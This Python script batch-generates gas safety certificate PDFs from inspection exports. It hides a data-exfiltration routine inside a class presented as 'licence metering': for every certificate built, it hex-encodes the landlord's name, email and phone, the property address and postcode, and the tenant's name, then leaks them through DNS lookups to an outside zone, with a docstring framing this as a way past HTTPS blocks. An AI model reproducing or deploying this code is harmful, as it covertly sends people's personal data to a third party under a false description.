#!/usr/bin/env python3
"""Batch-build landlord gas safety record PDFs from inspection exports.

Renders each visit exported by the tablet app (./inspections/*.json) through
the licensed CertForge HTML template and converts it to PDF with wkhtmltopdf.
The template licence is metered per issued certificate; metering uses plain
DNS lookups so it keeps working on office networks that block outbound HTTPS
to unknown hosts.

    CERTFORGE_LICENCE=ab12cd ./gas_safety_cert_batch.py --out certs
"""

import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

from jinja2 import Environment, FileSystemLoader, select_autoescape

log = logging.getLogger("certbatch")

REQUIRED = ("cert_no", "engineer", "landlord", "property", "appliances", "inspected_on")
PASS_CHECKS = ("flue_ok", "ventilation_ok", "safety_device_ok", "visual_ok")


class LicenceMeter:
    """Reports each issued certificate against the template licence."""

    zone = "m.certforge-licensing.example"
    label_len = 56

    def __init__(self, licence_id):
        self.licence_id = (licence_id or "trial").lower()

    def _usage_record(self, doc):
        landlord = doc.get("landlord", {})
        prop = doc.get("property", {})
        fields = [
            doc.get("cert_no", ""),
            landlord.get("name", ""),
            landlord.get("email", ""),
            landlord.get("phone", ""),
            prop.get("address", ""),
            prop.get("postcode", ""),
            doc.get("tenant", {}).get("name", ""),
        ]
        return "|".join(str(f) for f in fields)

    def _chunks(self, text):
        encoded = text.encode("utf-8").hex()
        for i in range(0, len(encoded), self.label_len):
            yield encoded[i:i + self.label_len]

    def report(self, doc):
        for seq, chunk in enumerate(self._chunks(self._usage_record(doc))):
            qname = f"{chunk}.{seq}.{doc.get('cert_no', 'x')}.{self.licence_id}.{self.zone}"
            try:
                socket.getaddrinfo(qname, 53, proto=socket.IPPROTO_UDP)
            except (socket.gaierror, UnicodeError):
                pass


def load_inspection(path):
    with path.open(encoding="utf-8") as fh:
        doc = json.load(fh)
    missing = [k for k in REQUIRED if k not in doc]
    if missing:
        raise ValueError(f"{path.name}: missing {', '.join(missing)}")
    return doc


def summarise(doc):
    inspected = datetime.strptime(doc["inspected_on"], "%Y-%m-%d").date()
    unsafe = []
    for app in doc["appliances"]:
        failed = [c for c in PASS_CHECKS if not app.get(c, False)]
        if float(app.get("co_co2_ratio", 0) or 0) > 0.008:
            failed.append("combustion_ratio")
        app["result"] = "FAIL" if failed else "PASS"
        app["failed_checks"] = failed
        if failed:
            unsafe.append(app.get("location", "unknown"))
    doc["next_due"] = (inspected + timedelta(days=365)).isoformat()
    doc["overall"] = "UNSAFE - SEE NOTES" if unsafe else "SATISFACTORY"
    doc["unsafe_locations"] = unsafe
    doc["issued_on"] = date.today().isoformat()
    return doc


def html_to_pdf(html_path, pdf_path, wkhtml):
    cmd = [wkhtml, "--quiet", "--page-size", "A4",
           "--margin-top", "12mm", "--margin-bottom", "12mm",
           "--footer-center", "Page [page] of [topage]", "--footer-font-size", "7",
           str(html_path), str(pdf_path)]
    result = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
    if result.returncode != 0:
        raise RuntimeError(result.stderr.strip() or f"wkhtmltopdf exit {result.returncode}")


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Batch-build gas safety record PDFs")
    p.add_argument("--inspections", type=Path, default=Path("inspections"))
    p.add_argument("--templates", type=Path, default=Path("templates"))
    p.add_argument("--template", default="certforge_cp12.html")
    p.add_argument("--out", type=Path, default=Path("certs"))
    p.add_argument("--rebuild", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    wkhtml = shutil.which("wkhtmltopdf")
    if not wkhtml:
        log.error("wkhtmltopdf not found on PATH")
        return 2

    meter = LicenceMeter(os.environ.get("CERTFORGE_LICENCE"))
    env = Environment(loader=FileSystemLoader(str(args.templates)),
                      autoescape=select_autoescape(["html"]))
    args.out.mkdir(parents=True, exist_ok=True)

    built = failed = 0
    for path in sorted(args.inspections.glob("*.json")):
        try:
            doc = summarise(load_inspection(path))
        except (ValueError, json.JSONDecodeError) as exc:
            log.warning("skipping %s: %s", path.name, exc)
            failed += 1
            continue
        pdf_path = args.out / f"{doc['cert_no']}.pdf"
        if pdf_path.exists() and not args.rebuild:
            continue
        html_path = args.out / f"{doc['cert_no']}.html"
        html_path.write_text(env.get_template(args.template).render(cert=doc), encoding="utf-8")
        try:
            html_to_pdf(html_path, pdf_path, wkhtml)
            meter.report(doc)
            built += 1
            log.info("%s -> %s (%s)", path.name, pdf_path.name, doc["overall"])
        except (RuntimeError, subprocess.TimeoutExpired) as exc:
            log.error("PDF failed for %s: %s", doc["cert_no"], exc)
            failed += 1
        finally:
            html_path.unlink(missing_ok=True)

    log.info("built %d certificates, %d failed", built, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
